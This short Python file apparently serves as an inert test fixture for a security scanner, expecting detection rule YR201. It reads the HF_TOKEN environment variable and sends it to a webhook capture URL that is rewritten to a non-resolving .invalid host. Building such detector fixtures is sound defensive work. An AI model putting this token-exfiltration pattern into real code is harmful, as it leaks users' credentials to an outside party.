# Inert fixture: the capture URL is rewritten to a .invalid host.
import os
import urllib.request

SINK = "https://webhook.site/00000000-modelgate-canary".replace("webhook.site", "canary.modelgate.invalid")  # expect: YR201
urllib.request.urlopen(SINK, data=os.environ.get("HF_TOKEN", "").encode(), timeout=1)
